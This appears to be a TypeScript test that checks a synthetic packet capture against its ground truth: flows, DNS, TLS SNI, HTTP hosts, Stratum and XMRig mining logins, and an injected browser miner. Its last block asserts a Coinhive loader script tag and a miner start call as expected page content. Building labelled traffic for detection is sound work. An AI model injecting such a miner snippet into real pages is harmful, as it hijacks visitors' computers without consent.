/**
 * Compares a mixed/sample capture, as tshark dissects it, with its ground truth: flows
 * (SYN tuples and packet counts), DNS before connections, TLS SNI, HTTP hosts, Stratum and
 * XMRig JSON-RPC fields, and the injected browser miner.
 */
import assert from 'node:assert/strict';
import type { FlowSetTruth } from '../../src/synth/index.js';
import type { Row } from './tools.js';

const count = (xs: string[]): [string, number][] => {
  const m = new Map<string, number>();
  for (const x of xs) m.set(x, (m.get(x) ?? 0) + 1);
  return [...m.entries()].sort((a, b) => (a[0] < b[0] ? -1 : a[0] > b[0] ? 1 : 0));
};
const SYN = 0x02;
const ACK = 0x10;

export function checkFlowSet(rows: Row[], truth: FlowSetTruth): void {
  assert.equal(rows.length, truth.packets);
  for (let i = 1; i < rows.length; i++) assert.ok(rows[i].tsUs >= rows[i - 1].tsUs, `timestamps non-decreasing at frame ${i + 1}`);
  const tcp = rows.filter((r) => r.sport > 0 && r.udpSport === 0);

  // every TCP flow in the truth is one SYN in the capture, with the same packet count
  const tcpFlows = truth.flows.filter((f) => f.proto === 'tcp');
  const syns = tcp.filter((r) => (r.flags & (SYN | ACK)) === SYN).map((r) => `${r.src} ${r.sport} ${r.dst} ${r.dport}`);
  assert.deepEqual(count(syns), count(tcpFlows.map((f) => `${f.src} ${f.sport} ${f.dst} ${f.dport}`)));
  const perConn = new Map<string, number>();
  for (const r of tcp) {
    const a = `${r.src}:${r.sport}`;
    const b = `${r.dst}:${r.dport}`;
    const key = a < b ? `${a} ${b}` : `${b} ${a}`;
    perConn.set(key, (perConn.get(key) ?? 0) + 1);
  }
  for (const f of tcpFlows) {
    const a = `${f.src}:${f.sport}`;
    const b = `${f.dst}:${f.dport}`;
    assert.equal(perConn.get(a < b ? `${a} ${b}` : `${b} ${a}`), f.packets, `packets of flow ${f.id} (${f.label})`);
  }

  // DNS: one query per truth dns flow, same names; servers were resolved before use
  const queries = rows.filter((r) => r.dnsResponse === false).map((r) => r.qname);
  assert.deepEqual(count(queries), count(truth.flows.filter((f) => f.label === 'dns').map((f) => f.host ?? '')));
  const answered = new Set(rows.filter((r) => r.dnsResponse === true).flatMap((r) => r.dnsA));
  for (const f of truth.flows) if (f.host && f.proto === 'tcp' && f.category !== 'attack') assert.ok(answered.has(f.dst), `${f.host} → ${f.dst} resolved first`);

  // TLS: the SNI of every ClientHello is the truth's, flow for flow; every hello answered
  const snis = rows.filter((r) => r.tlsTypes.includes(1)).map((r) => r.sni);
  assert.deepEqual(count(snis), count(truth.flows.filter((f) => f.tls).map((f) => f.sni ?? '')));
  assert.equal(rows.filter((r) => r.tlsTypes.includes(2)).length, snis.length);

  // HTTP: request hosts are those of the cleartext web flows
  const httpHosts = new Set(rows.filter((r) => r.httpRequest).map((r) => r.httpHost));
  const wantHosts = new Set(truth.flows.filter((f) => f.label === 'web-http' || f.label === 'browser-miner-page').map((f) => f.host ?? ''));
  assert.deepEqual([...httpHosts].sort(), [...wantHosts].sort());

  // Stratum v1 and XMRig JSON-RPC: agent, worker, wallet as in the truth
  const rpc = tcp.filter((r) => r.payload.includes('"method"')).map((r) => ({
    key: `${r.src}:${r.sport}`, msg: JSON.parse(r.payload.toString('utf8').trim()) as { method: string; params: unknown },
  }));
  const stratum = truth.flows.filter((x) => x.label === 'stratum-v1' && x.packets > 8);
  const xmrig = truth.flows.filter((x) => x.label === 'xmrig-cryptonote' && x.packets > 8);
  assert.ok(stratum.length > 0 && xmrig.length > 0, 'complete mining sessions present');
  for (const f of stratum) {
    const mine = rpc.filter((l) => l.key === `${f.src}:${f.sport}`);
    const sub = mine.find((l) => l.msg.method === 'mining.subscribe');
    const auth = mine.find((l) => l.msg.method === 'mining.authorize');
    assert.ok(sub && auth, `stratum flow ${f.id} has subscribe and authorize`);
    assert.equal((sub.msg.params as string[])[0], f.agent);
    assert.equal((auth.msg.params as string[])[0], f.worker);
  }
  for (const f of xmrig) {
    const login = rpc.find((l) => l.key === `${f.src}:${f.sport}` && l.msg.method === 'login');
    assert.ok(login, `xmrig flow ${f.id} has a login`);
    const p = login.msg.params as { agent: string; login: string; algo: string[] };
    assert.equal(p.agent, 'XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0');
    assert.equal(p.agent, f.agent);
    assert.equal(p.login, f.wallet);
    assert.ok(p.algo.includes('rx/0'));
  }

  // the injected browser miner: tshark de-chunks and gunzips the page and finds the script
  const pages = truth.flows.filter((x) => x.label === 'browser-miner-page');
  assert.ok(pages.length > 0);
  for (const f of pages) {
    const resp = rows.filter((r) => r.httpCode === 200 && r.dst === f.src && r.dport === f.sport);
    assert.equal(resp.length, 1);
    assert.equal(resp[0].contentEncoding, 'gzip');
    assert.equal(resp[0].transferEncoding, 'chunked');
    const fd = resp[0].fileData;
    const body = fd.includes('<') ? fd : Buffer.from(fd.replace(/:/g, ''), 'hex').toString('utf8');
    assert.ok(body.includes('<script src="https://coinhive.com/lib/coinhive.min.js"></script>'), 'loader injected');
    assert.ok(body.includes(`new CoinHive.Anonymous('${f.wallet}');miner.start();`), 'site key in the start call');
  }
}
